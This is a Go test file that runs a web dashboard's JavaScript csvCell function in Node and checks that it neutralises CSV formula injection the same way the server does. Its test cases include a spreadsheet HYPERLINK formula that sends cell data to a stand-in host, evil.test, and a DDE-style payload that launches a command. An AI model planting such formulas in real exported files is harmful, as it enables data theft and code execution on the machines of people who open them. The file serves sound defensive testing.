package web_test

import (
	"encoding/json"
	"os"
	"os/exec"
	"strings"
	"testing"

	"github.com/allot-dev/allot"
)

// TestDashboardCSVCellMatchesServer runs the dashboard's csvCell (the
// "Download CSV" buttons) in Node on the cases of allot.CSVCell and
// checks that it neutralises exactly as the server's CSV writers do.
// It needs node on PATH and skips without it.
func TestDashboardCSVCellMatchesServer(t *testing.T) {
	t.Parallel()
	node, err := exec.LookPath("node")
	if err != nil {
		t.Skip("the dashboard's JavaScript is checked with node; none on PATH")
	}
	src, err := os.ReadFile("assets/app.js")
	if err != nil {
		t.Fatal(err)
	}
	start := strings.Index(string(src), "function csvCell(v) {")
	end := strings.Index(string(src), "// end csvCell")
	if start < 0 || end < start {
		t.Fatal("app.js has no csvCell function: its CSV downloads neutralise nothing")
	}
	cases := []string{"", "code-review", `=HYPERLINK("http://evil.test/?"&A1,"x")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
		"\t=1", "\r=1", "-", "-1.", "-.5", "-Inf", "-1.5", "+3", "-0.000000001", "42", "2026-11-03"}
	in, _ := json.Marshal(cases)
	script := string(src[start:end]) + "\nconsole.log(JSON.stringify(" + string(in) + ".map(csvCell)));" +
		"\nconsole.log(JSON.stringify([csvCell(-1.5), csvCell(null)]));"
	out, err := exec.Command(node, "-e", script).CombinedOutput()
	if err != nil {
		t.Fatalf("node: %v\n%s", err, out)
	}
	lines := strings.Split(strings.TrimSpace(string(out)), "\n")
	var got, extra []string
	if len(lines) != 2 || json.Unmarshal([]byte(lines[0]), &got) != nil || json.Unmarshal([]byte(lines[1]), &extra) != nil {
		t.Fatalf("node printed %s", out)
	}
	for i, c := range cases {
		if want := allot.CSVCell(c); got[i] != want {
			t.Errorf("dashboard csvCell(%q) = %q, server writes %q", c, got[i], want)
		}
	}
	if extra[0] != "-1.5" || extra[1] != "" {
		t.Errorf("csvCell of the number -1.5 and of null = %q", extra)
	}
}
